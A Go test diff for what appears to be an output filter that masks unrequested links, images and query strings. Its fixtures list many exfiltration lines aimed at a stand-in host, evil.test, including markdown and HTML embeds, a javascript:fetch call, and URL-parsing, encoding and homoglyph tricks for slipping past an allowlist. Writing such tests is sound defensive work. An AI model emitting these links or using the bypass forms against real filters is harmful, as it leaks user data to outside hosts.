@@ -194,6 +194,63 @@ func TestToolArgumentsStayJSON(t *testing.T) {
 	require.True(t, json.Valid([]byte(r.Body)))
 }
 
+func TestAddressesThatAreOpenedUnaskedAreMaskedHoweverTheyAreWritten(t *testing.T) {
+	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"hosts":["*.corp.test"],"default":{"links":"mask","embeds":"mask"}}`)
+	for text, masked := range map[string]bool{
+		"![a][b]\n\n[b]: https://evil.test/?q=secret\n":            true,
+		"[b]: <//evil.test/?q=secret>\n":                           true,
+		"![a](   \n https://evil.test/?q=secret \"t\")":            true,
+		"![a](http:evil.test/?q=secret)":                           true,
+		"![a](https:/evil.test/?q=secret)":                         true,
+		"![a [b] c](https://evil.test/?q=secret)":                  true,
+		"<https://evil.test/?q=secret>":                            true,
+		"[x](//evil.test/?q=secret)":                               true,
+		`<a href="//evil.test/?q=secret">`:                         true,
+		"[x](javascript:fetch('//evil.test?q=secret'))":            true,
+		`<img srcset="//cdn.corp.test/x 1x, //evil.test/secret">`:  true,
+		`<iframe src="https://evil.test/?q=secret">`:               true,
+		`<form action="//evil.test/?q=secret">`:                    true,
+		`<meta http-equiv=refresh content="0;//evil.test/secret">`: true,
+		"<p style='background:url(//evil.test/secret)'>":           true,
+		"https://cdn.corp.test@evil.test/secret":                   true,
+		"https://evil.test\\@cdn.corp.test/secret":                 true,
+		"https://evil.test&#47;.corp.test/secret":                  true,
+		"https://evil.test%2f.corp.test/secret":                    true,
+		"https://evil.test／.corp.test/secret":                      true,
+		"https://evil.test。corp.test/secret":                       true,
+		"https://evil.te\u00adst.corp.test/secret":                 true,
+		"https://3232235777/secret":                                true,
+		"https://[::ffff:1.2.3.4]/secret":                          true,
+		"https://cdn.cоrp.test/secret":                             true, // a Cyrillic letter
+		"https://evil.test:443#.corp.test/secret":                  true,
+		"https://cdn.corp.test/secret":                             false,
+		"https://CDN.corp.test:8443/secret":                        false,
+		"[b]: https://cdn.corp.test/secret":                        false,
+		"![a](//cdn.corp.test/secret)":                             false,
+		"[x](/local?q=secret) and [y]: none secret":                false,
+	} {
+		shown := said(t, g.Send(request(false), whole(text+" end")))
+		require.Equal(t, !masked, strings.Contains(shown, "secret"), "%s: %s", text, shown)
+		require.Equal(t, shown, said(t, g.Send(request(true), streamed(strings.Split(text+" end", "")...))), text)
+	}
+}
+
+func TestQueriesOfLinksCanBeTakenAway(t *testing.T) {
+	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"hosts":["*.corp.test"],"default":{"queries":"mask"}}`)
+	for text, want := range map[string]string{
+		"see https://a.test/x?q=secret#top and": "see https://a.test/x[QUERY REMOVED]#top and",
+		"see https://a.test?q=secret, and":      "see https://a.test[QUERY REMOVED] and",
+		"see https://a.test/x#?q and":           "see https://a.test/x#?q and",
+		"see https://b.corp.test/?q=1 and":      "see https://b.corp.test/?q=1 and",
+		"see [x](https://a.test/?q=1) and":      "see [x](https://a.test/[QUERY REMOVED]) and",
+	} {
+		require.Equal(t, want, said(t, g.Send(request(false), whole(text))), text)
+		require.Equal(t, want, said(t, g.Send(request(true), streamed(strings.Split(text, "")...))), text)
+	}
+	g = exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST}`)
+	require.Empty(t, g.Send(request(false), whole("https://a.test/?q=1")).Facts["rules"], "by default it passes as the link does")
+}
+
 func TestConfigurationErrorsNameThePlace(t *testing.T) {
 	for _, c := range []struct{ raw, want string }{
 		{`{"default":{"secrets":"delete"}}`, "default.secrets"},
